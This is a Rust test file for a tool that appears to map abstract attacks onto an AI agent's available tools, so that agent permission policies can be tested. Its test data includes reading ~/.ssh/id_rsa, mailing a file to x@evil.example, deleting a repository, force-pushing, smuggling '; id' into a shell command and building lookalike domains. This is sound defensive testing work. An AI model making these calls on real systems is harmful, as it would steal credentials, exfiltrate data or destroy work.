use super::*;
use crate::model::facts::Os;
use crate::model::policy::Server;
use crate::model::time::Timestamp;
use std::collections::BTreeMap;

fn ground() -> Ground {
    Ground { project: "/p".into(), home: "/h".into(), os: Os::Posix, time: Timestamp(0) }
}

fn tools(list: &[(&str, &str, Value)]) -> Tools {
    let mut tools = Tools::default();
    for (server, tool, schema) in list {
        tools.toolbox.entry((*server).to_owned()).or_default().insert((*tool).to_owned(), Some(schema.clone()));
    }
    tools
}

fn naming(servers: &[&str]) -> Document {
    Document {
        servers: servers.iter().map(|name| ((*name).to_owned(), Server::default())).collect::<BTreeMap<_, _>>(),
        ..Document::default()
    }
}

fn attack(steps: Value) -> Attack {
    serde_json::from_value(json!({"id":"x","title":"x","source":"x","steps":steps})).unwrap()
}

fn bound(attack: &Attack, tools: &Tools, policy: &Document) -> Vec<String> {
    let prepared = prepare(tools, policy);
    let (ways, _) = bind(attack, &prepared, &ground());
    ways.iter()
        .filter(|way| way.variant.is_none())
        .map(|way| {
            way.calls
                .iter()
                .map(|call| format!("{}.{} {}", call.server, call.tool, Value::Object(call.arguments.clone())))
                .collect::<Vec<_>>()
                .join(" > ")
        })
        .collect()
}

fn path_schema() -> Value {
    json!({"type":"object","properties":{"path":{"type":"string"},"head":{"type":"integer"}},"required":["path"]})
}

#[test]
fn a_read_becomes_a_call_of_every_tool_that_reads_a_path() {
    let many =
        json!({"type":"object","properties":{"paths":{"type":"array","items":{"type":"string"}}},"required":["paths"]});
    let tools =
        tools(&[("fs", "read_file", path_schema()), ("fs", "read_many", many), ("fs", "write_file", path_schema())]);
    let attack = attack(json!([{"role":"read-path","value":"$HOME/.ssh/id_rsa","harm":"credential-read"}]));
    assert_eq!(
        bound(&attack, &tools, &naming(&["fs"])),
        [r#"fs.read_file {"path":"/h/.ssh/id_rsa"}"#, r#"fs.read_many {"paths":["/h/.ssh/id_rsa"]}"#]
    );
}

#[test]
fn a_server_that_the_policy_does_not_name_is_not_bound() {
    let tools = tools(&[("fs", "read_file", path_schema())]);
    let attack = attack(json!([{"role":"read-path","value":"/x","harm":"credential-read"}]));
    assert!(bound(&attack, &tools, &naming(&["zzz"])).is_empty());
    assert_eq!(bound(&attack, &tools, &Document { default_allow: true, ..naming(&["zzz"]) }).len(), 1);
}

#[test]
fn a_step_that_names_a_deed_is_bound_to_tools_of_that_name_only() {
    let any = json!({"type":"object","properties":{"repo":{"type":"string"}},"required":["repo"]});
    let tools = tools(&[
        ("github", "delete_repository", any.clone()),
        ("github", "list_repos", any.clone()),
        ("github", "delete_file", any),
    ]);
    let attack =
        attack(json!([{"role":"tool","verbs":["delete"],"nouns":["repo","repository"],"harm":"data-destroyed"}]));
    assert_eq!(
        bound(&attack, &tools, &naming(&["github"])),
        [r#"github.delete_repository {"repo":"another-repository"}"#]
    );
}

#[test]
fn a_flag_is_set_where_the_tool_has_it_and_binds_to_no_other() {
    let with = json!({"type":"object","properties":{"branch":{"type":"string"},"force":{"type":"boolean"}},"required":["branch"]});
    let without = json!({"type":"object","properties":{"branch":{"type":"string"}},"required":["branch"]});
    let tools = tools(&[("git", "push", with), ("git", "push_tags", without)]);
    let attack = attack(json!([{"role":"tool","verbs":["push"],"set":{"force":true},"harm":"data-destroyed"}]));
    assert_eq!(bound(&attack, &tools, &naming(&["git"])), [r#"git.push {"branch":"main","force":true}"#]);
}

#[test]
fn a_sequence_is_bound_in_every_combination() {
    let mail = json!({"type":"object","properties":{"to":{"type":"string"},"body":{"type":"string"}},"required":["to","body"]});
    let tools = tools(&[("fs", "read_file", path_schema()), ("mail", "send", mail)]);
    let attack = attack(json!([
        {"role":"read-path","value":"/p/a","harm":"exfiltration"},
        {"role":"recipient","value":"x@evil.example","with":[{"role":"text","value":"data"}],"harm":"exfiltration"}
    ]));
    assert_eq!(
        bound(&attack, &tools, &naming(&["fs", "mail"])),
        [r#"fs.read_file {"path":"/p/a"} > mail.send {"body":"data","to":"x@evil.example"}"#]
    );
}

#[test]
fn a_sequence_of_which_one_step_fits_no_tool_is_not_bound() {
    let tools = tools(&[("fs", "read_file", path_schema())]);
    let attack = attack(json!([
        {"role":"read-path","value":"/p/a","harm":"exfiltration"},
        {"role":"recipient","value":"x@evil.example","harm":"exfiltration"}
    ]));
    assert!(bound(&attack, &tools, &naming(&["fs"])).is_empty());
}

#[test]
fn the_rest_of_a_call_that_was_seen_stays() {
    let mut tools = tools(&[("fs", "read_file", path_schema())]);
    let seen = json!({"path":"a.md","head":5}).as_object().unwrap().clone();
    tools.seen.entry("fs".into()).or_default().insert("read_file".into(), vec![seen]);
    let attack = attack(json!([{"role":"read-path","value":"/x","harm":"credential-read"}]));
    assert_eq!(bound(&attack, &tools, &naming(&["fs"])), [r#"fs.read_file {"head":5,"path":"/x"}"#]);
}

#[test]
fn what_the_agent_was_recorded_doing_is_no_attack() {
    let order = json!({"type":"object","properties":{"order_id":{"type":"string"}},"required":["order_id"]});
    let attack = attack(json!([{"role":"tool","verbs":["cancel"],"nouns":["order"],"harm":"data-destroyed"}]));
    let mut gather = crate::pipeline::replay::toolbox::Gather::default();
    let before = tools(&[("shop", "cancel_order", order)]);
    assert_eq!(bound(&attack, &before, &naming(&["shop"])).len(), 1);
    let call = crate::model::trace::parse(r##"{"server":"shop","tool":"cancel_order","arguments":{"order_id":"#1"}}"##)
        .unwrap();
    gather.trace([call].iter());
    assert!(bound(&attack, &gather.finish(&naming(&["shop"])), &naming(&["shop"])).is_empty());
}

#[test]
fn an_attack_of_another_system_is_not_bound() {
    let tools = tools(&[("fs", "read_file", path_schema())]);
    let mut attack = attack(json!([{"role":"read-path","value":"C:\\x","harm":"credential-read"}]));
    attack.os = Some(Os::Windows);
    assert!(bound(&attack, &tools, &naming(&["fs"])).is_empty());
}

#[test]
fn a_small_step_starts_from_what_was_seen_in_that_argument() {
    let run = json!({"type":"object","properties":{"command":{"type":"string"}},"required":["command"]});
    let mut tools = tools(&[("sh", "run", run)]);
    let call = json!({"command":"cargo test"}).as_object().unwrap().clone();
    tools.seen.entry("sh".into()).or_default().insert("run".into(), vec![call]);
    let attack = attack(json!([{"role":"command","value":"$SEEN; id","harm":"code-execution"}]));
    assert_eq!(bound(&attack, &tools, &naming(&["sh"])), [r#"sh.run {"command":"cargo test; id"}"#]);
}

#[test]
fn hosts_and_domains_are_taken_out_of_what_was_seen() {
    let value = |text: &str| json!(text);
    assert_eq!(
        seen("https://not$SEEN_HOST/", Some(&value("https://docs.rs/serde"))).as_deref(),
        Some("https://notdocs.rs/")
    );
    assert_eq!(seen("x@$SEEN_DOMAIN.evil", Some(&value("Bob <bob@acme.com>"))).as_deref(), Some("x@acme.com.evil"));
    assert_eq!(seen("x@$SEEN_DOMAIN", Some(&value("nobody"))), None);
    assert_eq!(seen("$SEEN", None), None);
}

#[test]
fn an_attack_of_one_step_is_spelt_in_other_ways_too() {
    let tools = tools(&[("fs", "read_file", path_schema())]);
    let attack = attack(json!([{"role":"read-path","value":"$HOME/.ssh/id_rsa","harm":"credential-read"}]));
    let policy = naming(&["fs"]);
    let (ways, _) = bind(&attack, &prepare(&tools, &policy), &ground());
    assert!(ways.iter().any(|way| way.variant == Some("tilde")));
    assert!(ways.len() > 10);
}
